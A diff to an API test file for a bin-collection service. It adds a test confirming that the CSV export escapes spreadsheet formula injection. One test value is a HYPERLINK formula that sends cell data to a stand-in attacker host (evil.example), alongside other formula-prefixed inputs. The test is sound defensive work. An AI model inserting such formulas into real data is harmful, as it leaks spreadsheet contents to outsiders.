@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 from tests.api.conftest import World
 from tests.api.test_access import BIN, NEW_BIN
 
@@ -65,6 +68,21 @@ def test_lists_come_in_pages_with_filters(world: World) -> None:
     assert plastic["total"] == 12
     assert all(b["fraction"] == "plastic" for b in plastic["items"])
     assert client.get("/v1/bins?limit=0", headers=h).json()["errors"][0]["field"] == "query.limit"
+
+
+def test_a_bins_csv_export_opens_no_formula_in_a_spreadsheet(world: World) -> None:
+    h = world.auth("kalmar", "dispatcher")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'
+    for n, address in enumerate((attack, "+46 480 45 00 00", "@SUM(1)", "-1+1")):
+        made = world.client.post("/v1/bins", json=NEW_BIN | {"id": f"x-{n}", "address": address}, headers=h)
+        assert made.status_code == 201, made.text
+    rows = {
+        r["id"]: r
+        for r in csv.DictReader(io.StringIO(world.client.get("/v1/exports/bins.csv", headers=h).text))
+    }
+    assert rows["x-0"]["address"] == "'" + attack
+    assert [rows[f"x-{n}"]["address"][:2] for n in (1, 2, 3)] == ["'+", "'@", "'-"]
+    assert all(not r["lon"].startswith("'") for r in rows.values())  # numbers stay numbers
 
 
 def test_csv_and_geojson_export_import_round_trip(world: World) -> None:
